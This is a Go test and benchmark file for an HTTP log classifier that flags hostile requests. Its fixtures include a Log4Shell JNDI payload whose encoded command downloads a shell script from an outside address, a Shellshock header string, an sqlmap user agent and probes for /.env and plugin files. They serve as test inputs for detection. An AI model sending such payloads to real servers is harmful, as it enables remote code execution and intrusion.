package httprules

import (
	"strings"
	"syscall"
	"testing"

	"phalanx/parser/httplog"
)

// cpuTime returns the process's user and system CPU time in nanoseconds.
// On a shared machine, wall time per op swings with the neighbours' load;
// CPU time per op is steadier, and it is what the throughput target
// (lines per CPU-second) is stated in.
func cpuTime() int64 {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return ru.Utime.Nano() + ru.Stime.Nano()
}

// BenchmarkClassify reports ns/op, cpu-ns/op and allocs/op of Classify on
// typical requests.
func BenchmarkClassify(b *testing.B) {
	p := defaultPack()
	long := "/search?q=" + strings.Repeat("lorem+ipsum+dolor+sit+amet+", 8<<10/27+1)
	cases := []struct {
		name string
		r    *httplog.Request
	}{
		{"benign", &httplog.Request{Method: []byte("GET"), URI: []byte("/products/shoes/running?color=red&size=42&page=2"), Proto: []byte("HTTP/2.0"), Status: 200,
			UserAgent: []byte(chrome), Referer: []byte("https://shop.example.com/products/shoes?color=red")}},
		{"asset", &httplog.Request{Method: []byte("GET"), URI: []byte("/static/js/main.4f2a9c.js"), Proto: []byte("HTTP/2.0"), Status: 200,
			UserAgent: []byte(safari), Referer: []byte("https://shop.example.com/")}},
		{"probe-404", &httplog.Request{Method: []byte("GET"), URI: []byte("/wp-content/plugins/revslider/readme.txt"), Proto: []byte("HTTP/1.1"), Status: 404,
			UserAgent: []byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0")}},
		{"log4shell-agent", &httplog.Request{Method: []byte("GET"), URI: []byte("/"), Proto: []byte("HTTP/1.1"), Status: 200,
			UserAgent: []byte("${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2g=}")}},
		{"uri-8KiB", &httplog.Request{Method: []byte("GET"), URI: []byte(long[:8<<10]), Proto: []byte("HTTP/1.1"), Status: 200, UserAgent: []byte(chrome)}},
		{"uri-64KiB", &httplog.Request{Method: []byte("GET"), URI: []byte("/search?q=" + strings.Repeat("%41", 64<<10/3)), Proto: []byte("HTTP/1.1"), Status: 414, UserAgent: []byte(chrome)}},
	}
	for _, c := range cases {
		b.Run("pack/"+c.name, func(b *testing.B) {
			dst := make([]Hit, 0, 8)
			b.ReportAllocs()
			b.SetBytes(int64(len(c.r.URI) + len(c.r.UserAgent) + len(c.r.Referer)))
			b.ResetTimer()
			t0 := cpuTime()
			for range b.N {
				dst = p.Classify(c.r, dst[:0])
			}
			b.ReportMetric(float64(cpuTime()-t0)/float64(b.N), "cpu-ns/op")
		})
		// A stream's Classifier, its memo warm: the pipeline's case.
		b.Run("classifier/"+c.name, func(b *testing.B) {
			cl := p.NewClassifier()
			dst := cl.Classify(c.r, make([]Hit, 0, 8))
			b.ReportAllocs()
			b.SetBytes(int64(len(c.r.URI) + len(c.r.UserAgent) + len(c.r.Referer)))
			b.ResetTimer()
			t0 := cpuTime()
			for range b.N {
				dst = cl.Classify(c.r, dst[:0])
			}
			b.ReportMetric(float64(cpuTime()-t0)/float64(b.N), "cpu-ns/op")
		})
	}
}

// TestClassifyAllocs holds Classify to zero allocations.
func TestClassifyAllocs(t *testing.T) {
	p := defaultPack()
	r := &httplog.Request{Method: []byte("GET"), URI: []byte("/.env?x=${jndi:ldap://x}"), Status: 404, UserAgent: []byte("sqlmap/1.7"), Referer: []byte("() { :; };")}
	dst := make([]Hit, 0, 32)
	if n := testing.AllocsPerRun(100, func() { dst = p.Classify(r, dst[:0]) }); n != 0 {
		t.Errorf("Classify allocates %v times per call", n)
	}
	cl := p.NewClassifier()
	if n := testing.AllocsPerRun(100, func() { dst = cl.Classify(r, dst[:0]) }); n != 0 {
		t.Errorf("Classifier.Classify allocates %v times per call", n)
	}
	long := &httplog.Request{Method: []byte("GET"), URI: []byte("/"), UserAgent: []byte(strings.Repeat("x", 2*memoKeyMax))}
	if n := testing.AllocsPerRun(100, func() { dst = cl.Classify(long, dst[:0]) }); n != 0 {
		t.Errorf("Classifier.Classify allocates %v times per call for a value it cannot remember", n)
	}
	var buf []byte
	buf = Path(r, buf)
	if n := testing.AllocsPerRun(100, func() { buf = Path(r, buf) }); n != 0 {
		t.Errorf("Path allocates %v times per call with a reused buffer", n)
	}
	if n := testing.AllocsPerRun(100, func() { p.Crawler([]byte(googlebot)) }); n != 0 {
		t.Errorf("Crawler allocates %v times per call", n)
	}
}

func BenchmarkPath(b *testing.B) {
	r := &httplog.Request{Method: []byte("GET"), URI: []byte("/products/shoes%20and%20boots/running?color=red&size=42")}
	var buf []byte
	b.ReportAllocs()
	for range b.N {
		buf = Path(r, buf)
	}
}

func BenchmarkCrawler(b *testing.B) {
	p := defaultPack()
	ua := []byte(googlebot)
	b.ReportAllocs()
	for range b.N {
		p.Crawler(ua)
	}
}

func BenchmarkLoad(b *testing.B) {
	b.ReportAllocs()
	for range b.N {
		if _, err := Load(defaultYAML); err != nil {
			b.Fatal(err)
		}
	}
}
